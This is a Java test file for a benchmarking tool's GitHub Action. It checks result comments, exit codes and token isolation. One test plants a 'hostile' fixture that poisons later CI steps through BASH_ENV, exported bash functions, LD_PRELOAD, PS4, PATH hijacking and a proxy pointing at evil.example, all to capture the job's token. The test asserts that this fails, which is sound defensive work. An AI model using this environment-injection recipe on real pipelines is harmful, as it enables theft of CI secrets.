package org.ctbench.harness.cli;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/** Both steps of the GitHub Action as its action.yml has them, beside a ctbench and a gh that note their arguments. */
@DisabledOnOs(value = OS.WINDOWS, disabledReason = "the action is a bash script")
class ActionTest {
    private static final Path ACTION = Path.of("../action");
    private static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{ (\\S+) }}");

    private static final String COMMIT = "3ff4d08c";
    private static final String NO_RESULT =
            "<!-- ctbench demo b.yaml  -->\n**ctbench has no result** of plan `demo` for commit " + COMMIT
                    + ": it ended with exit code %d. The log of the job says why.\n";
    private static final boolean JQ = Stream.of(System.getenv("PATH").split(":"))
            .anyMatch(programs -> Files.isExecutable(Path.of(programs, "jq")));

    @TempDir
    Path folder;

    /** What the runner gives a step, in place of what it had before. */
    private final Map<String, String> environment = new HashMap<>(System.getenv());

    private Path output;

    @BeforeEach
    void copyTheAction() throws IOException {
        output = folder.resolve("output");
        environment.put("GITHUB_OUTPUT", output.toString());
        environment.put("GITHUB_ENV", folder.resolve("env").toString());
        environment.put("GITHUB_PATH", folder.resolve("path").toString());
        environment.put("GITHUB_ACTION_PATH", folder.resolve("harness/action").toString());
        script("harness/action/run.sh", Files.readString(ACTION.resolve("run.sh")));
        script("ctbench", """
                echo "$@" >>ctbench.log
                env >>environment
                tr '\\0' '\\n' <"/proc/$PPID/environ" >>environment || true
                [[ ! -f hostile ]] || . ./hostile
                while (($#)); do
                    case $1 in --markdown) echo '| metric | failed |' >"$2" ;; --out) mkdir -p "$2" ;; esac
                    shift
                done
                exit "$(cat code 2>/dev/null || echo 0)"
                """);
        script("programs/gh", """
                echo "$@" >>gh.log
                echo "$GH_TOKEN" >token
                env >environment-of-gh
                while (($#)); do
                    case $1 in
                        --jq) [[ ! -f comments ]] || jq -r "$2" comments ;;
                        body=@-) cat >body ;;
                    esac
                    shift
                done
                ! [[ -f refused ]]
                """);
    }

    @Test
    void aRunIsCheckedAndTheTableBecomesAComment() throws Exception {
        assertEquals(0, run(Map.of("baseline", "ci/base.yaml"), "7"));

        List<String> commands = Files.readAllLines(folder.resolve("ctbench.log"));
        assertEquals(
                List.of(
                        "reproduce demo --out out/ctbench",
                        "check --baseline ci/base.yaml --junit out/ctbench/check.xml --markdown out/ctbench/check.md out/ctbench"),
                commands);
        commands.forEach(ActionTest::assertUnderstood);
        assertEquals("out/ctbench/report", outputs().get("report"));
        assertEquals(
                "<!-- ctbench demo ci/base.yaml  -->\n| metric | failed |\n", Files.readString(folder.resolve("body")));
        assertEquals(
                "api --silent repos/them/theirs/issues/7/comments -F body=@-",
                Files.readAllLines(folder.resolve("gh.log")).get(1));
    }

    @Test
    void aLaterRunReplacesItsCommentAndNoOther() throws Exception {
        assumeTrue(JQ, "there is no jq");
        Files.writeString(folder.resolve("comments"), """
                [{"id": 1, "user": {"type": "User"}, "body": "<!-- ctbench demo b.yaml  -->"},
                 {"id": 2, "user": {"type": "Bot"}, "body": "<!-- ctbench demo b.yaml --exact -->"},
                 {"id": 3, "user": {"type": "Bot"}, "body": "<!-- ctbench demo other.yaml  -->"},
                 {"id": 4, "user": {"type": "Bot"}, "body": null},
                 {"id": 4711, "user": {"type": "Bot"}, "body": "<!-- ctbench demo b.yaml  -->\\n| old |"},
                 {"id": 4712, "user": {"type": "Bot"}, "body": "<!-- ctbench demo b.yaml  -->\\n| older |"}]
                """);

        assertEquals(0, run(Map.of("baseline", "b.yaml"), "7"));

        assertEquals(
                "api --silent --method PATCH repos/them/theirs/issues/comments/4711 -F body=@-",
                Files.readAllLines(folder.resolve("gh.log")).get(1));
    }

    @Test
    void aFailedCheckIsCommentedAndIsTheExitCode() throws Exception {
        failingCheck(1);

        assertEquals(1, run(Map.of("baseline", "b.yaml", "exact", "true", "data", "/data/my ct"), "7"));

        List<String> commands = Files.readAllLines(folder.resolve("ctbench.log"));
        assertEquals("reproduce demo --out out/ctbench --data /data/my ct", commands.get(0));
        assertTrue(commands.get(1).contains(" --exact "), commands.get(1));
        assertEquals(
                "<!-- ctbench demo b.yaml --exact -->\n| metric | failed |\n",
                Files.readString(folder.resolve("body")));
    }

    @Test
    void aRunThatFailsIsNotCheckedAndTheCommentSaysSo() throws Exception {
        Files.writeString(folder.resolve("code"), "2");

        assertEquals(2, run(Map.of("baseline", "b.yaml"), "7"));

        assertEquals(1, Files.readAllLines(folder.resolve("ctbench.log")).size());
        assertEquals(Map.of("code", "2"), outputs());
        assertEquals(NO_RESULT.formatted(2), Files.readString(folder.resolve("body")));
    }

    @Test
    void aCheckThatCannotTellLeavesNoTableOfAnEarlierRun() throws Exception {
        failingCheck(3);

        assertEquals(3, run(Map.of("baseline", "b.yaml"), "7"));

        assertEquals(NO_RESULT.formatted(3), Files.readString(folder.resolve("body")));
    }

    @Test
    void aFirstStepThatDiesIsCommentedToo() throws Exception {
        Files.writeString(folder.resolve("hostile"), "kill -KILL $PPID; exit\n");

        assertEquals(137, run(Map.of("baseline", "b.yaml"), "7"));

        assertEquals(NO_RESULT.replace("%d", "unknown"), Files.readString(folder.resolve("body")));
    }

    @Test
    void ofALongTableTheStartIsCommented() throws Exception {
        String row = "| slice | ü |\n";
        Files.writeString(folder.resolve("long"), row.repeat(10_000));
        Files.writeString(folder.resolve("hostile"), "trap 'cp long out/ctbench/check.md' EXIT\n");

        assertEquals(0, run(Map.of("baseline", "b.yaml"), "7"));

        String body = Files.readString(folder.resolve("body"));
        assertTrue(body.length() < 60_200, "length " + body.length());
        assertTrue(body.startsWith("<!-- ctbench demo b.yaml  -->\n" + row), body.substring(0, 100));
        assertTrue(body.endsWith("\n\nThe table is longer: the step summary has the rest.\n"));
    }

    @Test
    void onlyTheProgramThatCommentsHasTheToken() throws Exception {
        assertEquals(0, run(Map.of("baseline", "b.yaml", "token", "secret-of-the-job"), "7"));

        assertEquals("secret-of-the-job\n", Files.readString(folder.resolve("token")));
        String environment = Files.readString(folder.resolve("environment"));
        assertTrue(environment.contains("BASELINE=b.yaml"), environment);
        assertFalse(environment.contains("secret-of-the-job"));
    }

    /** What code under test can leave for later steps, as the runner passes it on. */
    @Test
    void theStepWithTheTokenTakesNothingThatTheFirstStepLeft() throws Exception {
        Files.writeString(folder.resolve("hostile"), """
                [[ $1 == check ]] || return 0
                mkdir evil
                echo 'set >>stolen' >evil/code # it starts no program: all programs there are this one
                for program in gh bash mktemp rm env cat compgen; do
                    printf '#!/bin/bash\\n. evil/code\\n' >"evil/$program"
                done
                chmod +x evil/*
                cat >>"$GITHUB_ENV" <<END
                BASH_ENV=$PWD/evil/code
                ENV=$PWD/evil/code
                BASH_FUNC_gh%%=() { . evil/code; }
                BASH_FUNC_printf%%=() { . evil/code; }
                LD_PRELOAD=$PWD/evil/none.so
                SHELLOPTS=xtrace
                PS4=\\$(. evil/code)
                GH_HOST=evil.example
                GH_CONFIG_DIR=$PWD/evil
                HTTPS_PROXY=http://evil.example
                HOME=$PWD/evil
                TOKEN=other
                PROGRAMS=$PWD/evil
                REPOSITORY=evil/evil
                END
                echo "$PWD/evil" >>"$GITHUB_PATH"
                for script in harness/action/run.sh harness/action/action.yml ctbench; do
                    cp evil/gh evil/new && mv evil/new "$script" # beside and moved: bash still reads the old one
                done
                """);

        assertEquals(0, run(Map.of("baseline", "b.yaml", "token", "secret-of-the-job"), "7"));

        assertTrue(Files.notExists(folder.resolve("stolen")));
        assertEquals("", Files.readString(folder.resolve("said")));
        assertEquals("secret-of-the-job\n", Files.readString(folder.resolve("token")));
        assertEquals(
                "api --silent repos/them/theirs/issues/7/comments -F body=@-",
                Files.readAllLines(folder.resolve("gh.log")).get(1));
        String ofGh = Files.readString(folder.resolve("environment-of-gh"));
        for (String name : List.of("GH_HOST", "GH_CONFIG_DIR", "HTTPS_PROXY", "LD_PRELOAD", "BASH_ENV")) {
            assertFalse(ofGh.contains(name + "="), ofGh);
        }
        assertFalse(ofGh.contains("HOME=" + folder), ofGh);
    }

    @Test
    void nothingIsCommentedOutsideOfAPullRequestOrAgainstTheWill() throws Exception {
        assertEquals(0, run(Map.of("baseline", "b.yaml"), ""));
        assertEquals(0, run(Map.of("baseline", "b.yaml", "comment", "false"), "7"));

        assertTrue(Files.notExists(folder.resolve("gh.log")));
    }

    @Test
    void aTokenThatMayNotCommentCostsAWarning() throws Exception {
        Files.writeString(folder.resolve("refused"), "");

        assertEquals(0, run(Map.of("baseline", "b.yaml"), "7"));

        assertTrue(Files.readString(folder.resolve("said")).startsWith("::warning::ctbench could not comment"));
    }

    private void failingCheck(int code) throws IOException {
        script(
                "ctbench",
                Files.readString(folder.resolve("ctbench"))
                        .replace("exit ", "[[ $(tail -n 1 ctbench.log) != check* ]] || exit "));
        Files.writeString(folder.resolve("code"), Integer.toString(code));
    }

    private static void assertUnderstood(String command) {
        PrintWriter none = new PrintWriter(Writer.nullWriter());
        assertDoesNotThrow(() -> Main.commandLine(none, none).parseArgs(command.split(" ")));
    }

    /**
     * Runs the steps as GitHub's runner does, with these inputs, and for the others their defaults.
     *
     * @return exit code of the first; the second always ends with 0
     */
    private int run(Map<String, String> inputs, String pullRequest) throws Exception {
        JsonNode action = new YAMLMapper().readTree(ACTION.resolve("action.yml").toFile());
        JsonNode steps = action.at("/runs/steps");
        assertEquals(2, steps.size());
        Function<String, String> values = name -> value(name, action, inputs, pullRequest);

        int code = run(steps.get(0), "bash -eo pipefail {0}", values);
        passOnWhatTheStepLeft();
        assertEquals(
                "${{ !cancelled() && inputs.comment == 'true' && github.event.pull_request.number && runner.os == 'Linux' }}",
                steps.get(1).get("if").asText());
        assertTrue(steps.get(1).get("continue-on-error").asBoolean(), "it changes no result");
        // Set before the shell starts: each may load a library into it.
        Map<String, String> loading = Map.of(
                "LC_ALL",
                "C",
                "LOCPATH",
                "",
                "GCONV_PATH",
                "",
                "LD_PRELOAD",
                "",
                "LD_AUDIT",
                "",
                "LD_LIBRARY_PATH",
                "");
        loading.forEach(
                (name, value) -> assertEquals(value, steps.at("/1/env/" + name).asText(null), name));
        if (values.apply("inputs.comment").equals("true") && !pullRequest.isEmpty()) {
            String shell = steps.get(1).get("shell").asText();
            assertTrue(shell.startsWith("/"), "not looked up in the PATH: " + shell);
            assertEquals(0, run(steps.get(1), shell, values));
        }
        return code;
    }

    private int run(JsonNode step, String shell, Function<String, String> values) throws Exception {
        Path script =
                Files.writeString(folder.resolve("step.sh"), step.get("run").asText());
        ProcessBuilder builder = new ProcessBuilder(
                        shell.replace("{0}", script.toString()).split(" "))
                .directory(folder.toFile())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("said").toFile());
        builder.environment().clear();
        builder.environment().putAll(environment);
        step.get("env").properties().forEach(variable -> {
            Matcher expression = EXPRESSION.matcher(variable.getValue().asText());
            String value = expression.matches()
                    ? values.apply(expression.group(1))
                    : variable.getValue().asText();
            String own = variable.getKey().equals("PROGRAMS") ? folder.resolve("programs") + ":" : "";
            builder.environment().put(variable.getKey(), own + value);
        });
        return builder.start().waitFor();
    }

    private void passOnWhatTheStepLeft() throws IOException {
        if (Files.exists(folder.resolve("env"))) {
            for (String line : Files.readAllLines(folder.resolve("env"))) {
                environment.put(line.substring(0, line.indexOf('=')), line.substring(line.indexOf('=') + 1));
            }
            environment.compute(
                    "PATH", (name, path) -> folder.resolve("evil") + ":" + path); // the one folder that a test adds
        }
    }

    /** What the first step told the runner: lines {@code name=value}, or {@code name<<END}, the value's lines and {@code END}. */
    private Map<String, String> outputs() {
        Map<String, String> outputs = new HashMap<>();
        try {
            Iterator<String> lines =
                    Files.exists(output) ? Files.readAllLines(output).iterator() : Collections.emptyIterator();
            while (lines.hasNext()) {
                String line = lines.next();
                String[] block = line.split("<<");
                if (block.length == 2) {
                    List<String> value = new ArrayList<>();
                    for (String next = lines.next(); !next.equals(block[1]); next = lines.next()) {
                        value.add(next);
                    }
                    outputs.put(block[0], String.join("\n", value));
                } else {
                    outputs.put(line.substring(0, line.indexOf('=')), line.substring(line.indexOf('=') + 1));
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return outputs;
    }

    private String value(String name, JsonNode action, Map<String, String> inputs, String pullRequest) {
        switch (name) {
            case "github.repository":
                return "them/theirs";
            case "github.event.pull_request.number":
                return pullRequest;
            case "github.event.pull_request.head.sha":
                return COMMIT;
            default:
                break;
        }
        if (name.startsWith("steps.ctbench.outputs.")) {
            return outputs().getOrDefault(name.substring("steps.ctbench.outputs.".length()), "");
        }
        assertTrue(name.startsWith("inputs."), name);
        String input = name.substring("inputs.".length());
        JsonNode declared = action.get("inputs").get(input);
        assertTrue(inputs.containsKey(input) || declared.has("default"), input + " is required");
        return inputs.getOrDefault(input, declared.path("default").asText());
    }

    private void script(String name, String body) throws IOException {
        Path file = folder.resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, body.startsWith("#!") ? body : "#!/bin/bash\n" + body);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
    }
}
